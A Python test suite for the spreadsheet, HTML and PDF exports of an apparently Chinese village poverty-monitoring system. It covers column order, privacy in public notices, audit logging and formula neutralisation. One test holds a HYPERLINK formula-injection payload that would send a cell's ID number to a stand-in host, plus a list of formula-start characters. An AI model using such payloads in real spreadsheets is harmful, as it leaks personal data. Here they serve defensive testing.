"""Exports over real HTTP: the roster and measures ledger in seed 001's column order, the
screening form of seed 002, and a public notice with nothing private; all scoped.
"""

from __future__ import annotations

import io
from datetime import UTC, datetime
from typing import Any

from cadre_support import (
    VILLAGE_A,
    VILLAGE_B,
    act,
    add_user,
    apply_by_chat,
    client_for,
    id_number,
    login,
    pdf_text,
)
from conftest import FakeClock
from openpyxl import load_workbook
from sqlmodel import col, select

from bot.services import Services
from intake.audit import AuditEvent
from intake.exports import (
    MEASURES_COLUMNS,
    ROSTER_COLUMNS,
    SCREENING_COLUMNS,
    measures_xlsx,
    roster_xlsx,
    screening_xlsx,
)
from intake.queue import QueueItem
from intake.users import Role

#: Seed 001 附件1 and 附件2, read off the attachments (序号, 镇, 村, 户主姓名, …).
SEED_ROSTER = ["序号", "镇", "村", "户主姓名", "户主证件号码", "家庭人口", "脱贫年度",
               "返贫风险类型", "详细原因", "包抓干部"]  # fmt: skip
SEED_LEDGER = ["序号", "镇", "村", "户主姓名", "户主证件号码", "家庭人口", "脱贫年度",
               "返贫风险类型", "制定的帮扶措施", "完成时限", "包抓干部"]  # fmt: skip
#: Seed 002 附件, the form's fields in order, its wording copied (only 联系方式 names its two
#: ways, which the form writes at the signature line: 电话(微信)).
SEED_SCREENING = [
    "排查人（签字）", "排查时间", "户主姓名", "人口数", "联系方式（电话/微信）",
    "脱贫户", "未消除风险监测户", "已消除风险监测户", "档外农户",
    "受疫情灾情影响较大，特别是收入下降明显的农户",
    "务工不稳定，特别是有外地务工返乡、新增劳动力和当地就业不稳定成员的农户",
    "新识别和新申请低保，特别是收入较低、家庭负担较重的农户",
    "新增加的因病、因残、因学等刚性支出较大或收入大幅缩减导致基本生活出现严重困难的农户",
    "省防返贫监测与帮扶管理平台综合比对反馈各地的预警信息中问题相对突出，但没有纳入监测对象的农户",
    "其它特殊困难农户（简要说明）", "排查出的风险问题", "拟采取的帮助措施（有问题则必填）",
    "是否有小额信贷需求", "户主（签字）",
]  # fmt: skip


def _sheet(content: bytes) -> list[list[Any]]:
    book = load_workbook(io.BytesIO(content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


async def _move(services: Services, clock: FakeClock, item: QueueItem, until: str) -> None:
    """Walk ``item`` through the procedure as an administrator, up to ``until``."""
    add_user(services, f"root{item.id}", Role.ADMIN, None)
    steps: list[tuple[str, dict[str, Any]]] = [
        ("start_village_review", {}),
        (
            "village_report",
            {"home_visit": "on", "consent_confirmed": "on", "meeting_result": "通过"},
        ),
        ("start_notice", {}),
        ("end_notice", {}),
        (
            "enrol",
            {
                "risk_codes": ["01", "10"],
                "helper": "刘莹嗣",
                "measures": "医疗救助；公益岗位",
                "measures_due": "2027-06-30",
                "reason_detail": "住院自付3.5万元",
            },
        ),
    ]
    async with client_for(services) as client:
        csrf = await login(client, f"root{item.id}")
        for action, fields in steps:
            if action == "end_notice":
                clock.advance(days=8)
            response = await act(client, item.id or 0, csrf, action, **fields)
            assert response.status_code == 303, response.text
            if action == until:
                return


async def test_roster_and_ledger_in_the_seed_column_order(
    services: Services, clock: FakeClock
) -> None:
    assert list(ROSTER_COLUMNS) == SEED_ROSTER and list(MEASURES_COLUMNS) == SEED_LEDGER
    mine = apply_by_chat(services, sender="e-1", serial=11)
    theirs = apply_by_chat(services, sender="e-2", serial=12, village=VILLAGE_B, head="李四")
    await _move(services, clock, mine, "enrol")
    await _move(services, clock, theirs, "enrol")
    add_user(services, "cun", Role.VILLAGE, VILLAGE_A)
    async with client_for(services) as client:
        await login(client, "cun")
        roster = await client.get("/cadre/exports/roster.xlsx")
        assert roster.headers["content-type"].startswith("application/vnd.openxmlformats")
        rows = _sheet(roster.content)
        assert rows[0][0].startswith("返贫风险对象花名册（2026年12月）")
        assert rows[1][0] == "单位：柏岭村"
        assert rows[2] == SEED_ROSTER
        assert rows[3:] == [
            [
                1,
                "港口乡",
                "柏岭村",
                "王大山",
                id_number(11),
                3,
                "非贫困户",
                "因重大疾病、刚性支出较大或收入大幅缩减",
                "住院自付3.5万元",
                "刘莹嗣",
            ]
        ]
        ledger = _sheet((await client.get("/cadre/exports/measures.xlsx")).content)
        assert ledger[2] == SEED_LEDGER
        assert ledger[3][-2:] == ["2027-06-30", "刘莹嗣"] and len(ledger) == 4
        assert ledger[3] == [
            1,
            "港口乡",
            "柏岭村",
            "王大山",
            id_number(11),
            3,
            "非贫困户",
            "因重大疾病、刚性支出较大或收入大幅缩减",
            "医疗救助；公益岗位",
            "2027-06-30",
            "刘莹嗣",
        ]
        assert dict(zip(SEED_LEDGER, ledger[3], strict=True))["包抓干部"] == "刘莹嗣"
    add_user(services, "xiang", Role.TOWNSHIP, "gangkou")
    async with client_for(services) as client:
        await login(client, "xiang")
        both = _sheet((await client.get("/cadre/exports/roster.xlsx")).content)
        assert [row[3] for row in both[3:]] == ["王大山", "李四"]
        one = _sheet(
            (await client.get("/cadre/exports/roster.xlsx", params={"village": VILLAGE_B})).content
        )
        assert [row[3] for row in one[3:]] == ["李四"] and one[1][0] == "单位：横岭村"
    with services.db.read() as db:
        logged = db.exec(select(AuditEvent).where(AuditEvent.action == "export.downloaded"))
        assert [e.data["export"] for e in logged] == ["roster", "measures", "roster", "roster"]


async def test_screening_form_is_prefilled_for_households_awaiting_a_visit(
    services: Services, clock: FakeClock
) -> None:
    waiting = apply_by_chat(services, sender="s-1", serial=21)
    visited = apply_by_chat(services, sender="s-2", serial=22, head="张三")
    await _move(services, clock, visited, "village_report")
    add_user(services, "cun", Role.VILLAGE, VILLAGE_A)
    async with client_for(services) as client:
        await login(client, "cun")
        rows = _sheet((await client.get("/cadre/exports/screening.xlsx")).content)
    assert rows[2] == list(SCREENING_COLUMNS) == SEED_SCREENING
    assert len(rows) == 4 and waiting.tracking_code
    row = dict(zip(SCREENING_COLUMNS, rows[3], strict=True))
    assert row["户主姓名"] == "王大山" and row["人口数"] == 3
    assert row["联系方式（电话/微信）"] == "13812345678"
    assert row["档外农户"] == "√" and row["脱贫户"] is None
    assert (
        row["新增加的因病、因残、因学等刚性支出较大或收入大幅缩减导致基本生活出现严重困难的农户"]
        == "√"
    )
    assert "医疗自付" in row["排查出的风险问题"]
    for blank in ("排查人（签字）", "户主（签字）", "是否有小额信贷需求"):
        assert row[blank] is None


async def test_public_notice_leaves_out_id_phone_bank_and_health(
    services: Services, clock: FakeClock
) -> None:
    item = apply_by_chat(services, sender="p-1", serial=31)
    await _move(services, clock, item, "start_notice")
    add_user(services, "cun", Role.VILLAGE, VILLAGE_A)
    async with client_for(services) as client:
        await login(client, "cun")
        page = await client.get("/cadre/exports/notice")
        pdf = await client.get("/cadre/exports/notice.pdf")
    assert page.status_code == 200 and "王大山" in page.text and "2026-11-25" in page.text
    assert "2026-12-02" in page.text and "0715-3811061" in page.text
    assert pdf.headers["content-type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    for private in (
        id_number(31),
        id_number(31)[:6],
        "13812345678",
        "1234",
        "银行",
        "疾病",
        "医疗",
        "35000",
        "3.5",
    ):
        assert private not in page.text, private
    text = pdf.content.decode("latin-1")
    for private in (id_number(31), "13812345678"):
        assert private not in text
    # The streams are compressed and the CJK text encoded: read the PDF's real text.
    shown = pdf_text(pdf.content)
    assert "王大山" in shown and "柏岭村" in shown and "2026-12-02" in shown
    assert "0715-3811061" in shown, "the hotline for objections"
    for private in (id_number(31), id_number(31)[:6], "13812345678", "138", "5678", "1958"):
        assert private not in shown, private
    for private in ("银行", "疾病", "医疗", "35000", "3.5"):
        assert private not in shown, private


async def test_notice_dates_use_the_clock_in_beijing_and_the_page_is_logged(
    services: Services, clock: FakeClock
) -> None:
    item = apply_by_chat(services, sender="p-2", serial=32)
    await _move(services, clock, item, "start_notice")
    with services.db.write() as db:  # a notice whose end was never set: dated "today"
        fresh = db.get(QueueItem, item.id)
        assert fresh is not None
        fresh.due_at = None
        db.add(fresh)
    # 2027-03-01 17:30 UTC is already 2 March in Beijing (and far from the machine's date).
    clock.now = datetime(2027, 3, 1, 17, 30, tzinfo=UTC)
    user = add_user(services, "cun", Role.VILLAGE, VILLAGE_A)
    async with client_for(services) as client:
        await login(client, "cun")
        page = await client.get("/cadre/exports/notice")
        pdf = pdf_text((await client.get("/cadre/exports/notice.pdf")).content)
    assert "2027-03-02" in page.text and "2027-02-23" in page.text, "ends today, began 7 days ago"
    assert "2027-03-02" in pdf and "2027-02-23" in pdf
    with services.db.read() as db:
        logged = db.exec(
            select(AuditEvent)
            .where(AuditEvent.action == "export.downloaded", AuditEvent.actor == f"user:{user.id}")
            .order_by(col(AuditEvent.id))
        ).all()
    assert [(e.data["export"], e.data["format"], e.data["rows"]) for e in logged] == [
        ("notice", "html", 1),
        ("notice", "pdf", 1),
    ]
    assert all(e.at == clock.now for e in logged)


FORMULAS = {
    "helper": '=HYPERLINK("http://x.example/?"&E4,"点此")',
    "measures": "+1+1",
    "reason_detail": "-2+3",
}


async def test_text_typed_by_cadres_is_written_as_text_never_a_formula(
    services: Services, clock: FakeClock
) -> None:
    item = apply_by_chat(services, sender="f-1", serial=31)
    add_user(services, "root", Role.ADMIN, None)
    steps: list[tuple[str, dict[str, Any]]] = [
        ("start_village_review", {}),
        ("village_report", {"home_visit": "on", "consent_confirmed": "on",
                            "meeting_result": "通过"}),
        ("start_notice", {}),
        ("end_notice", {}),
        ("enrol", {"risk_codes": ["01"], "measures_due": "2027-06-30",
                   **FORMULAS}),
    ]  # fmt: skip
    async with client_for(services) as client:
        csrf = await login(client, "root")
        for action, fields in steps:
            if action == "end_notice":
                clock.advance(days=8)
            assert (await act(client, item.id or 0, csrf, action, **fields)).status_code == 303
        books = [(await client.get(f"/cadre/exports/{k}.xlsx")).content for k in _TEXT_SHEETS]
    cells = [c for content in books for c in _data_cells(content)]
    typed = {c.value for c in cells if isinstance(c.value, str) and c.value.startswith("'")}
    assert typed == {"'" + value for value in FORMULAS.values()}
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


_TEXT_SHEETS = ("roster", "measures")


def _data_cells(content: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(min_row=4) for cell in row]


def test_every_formula_start_is_neutralised_in_every_workbook() -> None:
    """OWASP's list: = + - @, tab and carriage return; a villager's name as much as a cadre's."""
    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    now = datetime(2026, 11, 25, tzinfo=UTC)
    for book, width in (
        (roster_xlsx, len(ROSTER_COLUMNS)),
        (measures_xlsx, len(MEASURES_COLUMNS)),
        (screening_xlsx, len(SCREENING_COLUMNS)),
    ):
        rows = [[value] * width for value in starts]
        cells = _data_cells(book(rows, "柏岭村", now))
        # XML reads a stored carriage return back as a line feed.
        expected = ["'" + v.replace("\r", "\n") for v in starts for _ in range(width)]
        assert [c.value for c in cells] == expected
        assert {c.data_type for c in cells} == {"s"}


async def test_columns_fit_their_content_so_an_id_number_shows_whole(
    services: Services, clock: FakeClock
) -> None:
    mine = apply_by_chat(services, sender="w-1", serial=41)
    await _move(services, clock, mine, "enrol")
    add_user(services, "cun", Role.VILLAGE, VILLAGE_A)
    async with client_for(services) as client:
        await login(client, "cun")
        roster = await client.get("/cadre/exports/roster.xlsx")
        screening = await client.get("/cadre/exports/screening.xlsx")
    sheet = load_workbook(io.BytesIO(roster.content)).active
    widths = {c: sheet.column_dimensions[c].width for c in "ABCDEFGHIJ"}
    assert widths["E"] >= 18 + 2, "户主证件号码: 18 characters, never shown as ####"
    assert widths["I"] >= len("住院自付3.5万元") * 2 - 3, "the reason fits (CJK counts double)"
    assert widths["A"] <= 8, "序号 stays narrow"
    long = load_workbook(io.BytesIO(screening.content)).active
    assert all(long.column_dimensions[c].width <= 50 for c in "ABCDEFGHIJKLMNOPQRS")


async def test_an_empty_notice_says_so_and_every_notice_is_signed_and_dated(
    services: Services, clock: FakeClock
) -> None:
    add_user(services, "cun", Role.VILLAGE, VILLAGE_A)
    add_user(services, "xiang", Role.TOWNSHIP, "gangkou")
    async with client_for(services) as client:
        await login(client, "cun")
        page = await client.get("/cadre/exports/notice")
        pdf = pdf_text((await client.get("/cadre/exports/notice.pdf")).content)
    async with client_for(services) as client:
        await login(client, "xiang")
        township = await client.get("/cadre/exports/notice")
    nobody = "目前没有拟纳入防止返贫监测对象的农户在公示期内。"
    assert nobody in page.text and "<table" not in page.text
    assert "以上农户" not in page.text, "no footer about households that are not there"
    assert "柏岭村村民委员会<br>港口乡人民政府<br>2026年11月25日" in page.text
    assert nobody in pdf and "柏岭村村民委员会" in pdf and "港口乡人民政府" in pdf
    assert "港口乡人民政府<br>2026年11月25日" in township.text
    assert "村民委员会" not in township.text, "a township-wide notice is the township's"
